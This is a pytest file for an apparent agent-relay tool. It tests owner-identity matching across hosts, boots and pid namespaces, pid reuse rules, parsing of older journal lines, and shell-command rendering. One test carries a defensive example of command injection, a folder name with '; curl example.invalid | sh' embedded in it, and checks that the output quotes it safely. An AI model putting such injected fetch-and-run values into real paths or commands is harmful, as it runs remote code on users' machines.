"""Who may be taken for dead, and whose pids count here: decided from what was noted, on the safe side."""

from datetime import UTC, datetime

import pytest

from agent_relay.domain.events.codec import parse_event
from agent_relay.domain.events.session import LegStarting
from agent_relay.domain.values import UNKNOWN_OWNER, Owner, replace
from agent_relay.session.ownership import (
    OwnerRelation,
    find_owner_relation,
    may_use_pid,
    render_owner,
    render_way_there,
)

US = Owner("desk", "aa11", "boot-2", "pid:[1]", "/run/user/7/agent-relay")
BOOTED = datetime(2026, 5, 1, 8, 0, tzinfo=UTC)
SINCE = datetime(2026, 5, 1, 9, 0, tzinfo=UTC)
BEFORE = datetime(2026, 5, 1, 7, 0, tzinfo=UTC)


@pytest.mark.parametrize(
    ("other", "kinship"),
    [
        (US, OwnerRelation.SELF),
        (UNKNOWN_OWNER, OwnerRelation.SELF),
        (replace(US, host="renamed-meanwhile"), OwnerRelation.SELF),
        (replace(US, runtime="/tmp/runtime-7/agent-relay"), OwnerRelation.SAME_KERNEL),  # noqa: S108 - a name
        (replace(US, host="c0ffee", machine="", pid_namespace="pid:[2]"), OwnerRelation.SAME_KERNEL),
        (replace(US, boot="boot-1"), OwnerRelation.BEFORE_REBOOT),
        (replace(US, boot="boot-9", host="attic", machine="bb22"), OwnerRelation.ELSEWHERE),
        (replace(US, boot="boot-9", host="attic"), OwnerRelation.ELSEWHERE),
        (replace(US, boot="boot-9", machine="bb22"), OwnerRelation.ELSEWHERE),
        (replace(US, boot=""), OwnerRelation.ELSEWHERE),
    ],
)
def test_only_an_earlier_boot_of_the_very_same_machine_is_dead_for_certain(
    other: Owner, kinship: OwnerRelation
) -> None:
    """Two machines may have one name, and clones one id: either alone is no proof."""
    assert find_owner_relation(other, US) is kinship


@pytest.mark.parametrize(
    ("owner", "noted_at", "is_usable"),
    [
        (US, SINCE, True),
        (US, BEFORE, True),
        (replace(US, runtime="/elsewhere"), SINCE, True),
        (replace(US, boot="boot-1"), SINCE, False),
        (replace(US, pid_namespace="pid:[2]"), SINCE, False),
        (replace(US, host="renamed-meanwhile"), SINCE, True),
        (replace(US, boot="", host="attic"), SINCE, False),
        (UNKNOWN_OWNER, SINCE, True),
        (UNKNOWN_OWNER, BEFORE, False),
        (replace(US, boot=""), BEFORE, False),
    ],
)
def test_a_pid_counts_in_its_own_boot_and_namespace_only(
    owner: Owner, noted_at: datetime, *, is_usable: bool
) -> None:
    """Pid and birth come again after a reboot, and mean another process in a container."""
    assert may_use_pid(owner, US, noted_at=noted_at, booted_at=BOOTED) is is_usable


def test_a_leg_of_a_journal_older_than_owners_is_read() -> None:
    """Who upgrades in the middle of a session goes on with it."""
    data = {"leg": "l", "agent": "demo", "generation": 1}
    line = {"v": 1, "n": 1, "at": "2026-05-01T09:00:00+00:00", "g": 1, "event": "leg.starting", "data": data}
    body = parse_event(line).body
    assert isinstance(body, LegStarting)
    assert body.owner == UNKNOWN_OWNER


def test_the_way_there_is_a_command_one_can_type() -> None:
    """A person who is told that something is elsewhere asks how to get there."""
    assert render_way_there(US, "stop") == "XDG_RUNTIME_DIR=/run/user/7 agent-relay stop"
    assert render_way_there(replace(US, runtime="/x/run"), "stop") == "AGENT_RELAY_HOME=/x agent-relay stop"
    assert render_owner(replace(US, host="attic", boot="boot-9"), US) == "the agent-relay on attic"


def test_a_way_there_can_be_pasted_into_a_shell_whatever_the_folder_is_called() -> None:
    """The folder's name may come from a file in a cloned repository."""
    owner = replace(US, runtime="/x; curl example.invalid | sh #/agent-relay")
    assert render_way_there(owner, "attach") == (
        "XDG_RUNTIME_DIR='/x; curl example.invalid | sh #' agent-relay attach"
    )
